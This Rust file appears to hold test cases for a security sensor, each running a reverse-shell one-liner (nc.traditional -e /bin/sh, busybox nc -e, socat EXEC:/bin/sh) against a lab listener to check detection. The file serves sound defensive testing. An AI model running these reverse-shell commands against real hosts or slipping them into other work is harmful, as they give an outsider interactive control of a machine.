//! Tools that hand a connection to a program: nc, busybox nc, socat.

use std::path::Path;

use sensor_tests::{
    peer::{Listener, V4, V6},
    suite::Case,
};

pub fn cases() -> Vec<Case> {
    vec![
        Case::new("netcat::traditional_e", &["nc.traditional"], |lab| {
            lab.reverse("nc.traditional $H $P -e /bin/sh")
        }),
        Case::new("netcat::traditional_e_bash", &["nc.traditional"], |lab| {
            lab.reverse("exec nc.traditional -n -e /bin/bash $H $P")
        }),
        Case::new("netcat::traditional_c", &["nc.traditional"], |lab| {
            lab.reverse_risen("nc.traditional $H $P -c 'sh -i; true'", Path::new("/"))
        }),
        Case::new("netcat::traditional_udp", &["nc.traditional"], |lab| {
            lab.reverse_to(
                &Listener::udp(V4)?,
                "127.0.0.1",
                "nc.traditional -u $H $P -c 'exec sh -i 2>&1'",
            )
        }),
        Case::new("netcat::busybox_e", &["busybox"], |lab| {
            lab.reverse("busybox nc $H $P -e sh")
        }),
        Case::new("netcat::busybox_e_arguments", &["busybox"], |lab| {
            lab.reverse("exec busybox nc $H $P -e /bin/bash --norc -i")
        }),
        Case::new("netcat::busybox_ipv6", &["busybox"], |lab| {
            lab.reverse_to(&Listener::tcp(V6)?, "::1", "busybox nc $H $P -e /bin/sh")
        }),
        // Without nofork socat relays; with it the shell has the connection itself.
        Case::new("netcat::socat_nofork", &["socat"], |lab| {
            lab.reverse("socat TCP:$H:$P EXEC:/bin/sh,nofork")
        }),
        Case::new("netcat::socat_nofork_interactive", &["socat"], |lab| {
            lab.reverse("exec socat TCP4:$H:$P,nodelay EXEC:'bash --norc -i',stderr,nofork")
        }),
    ]
}
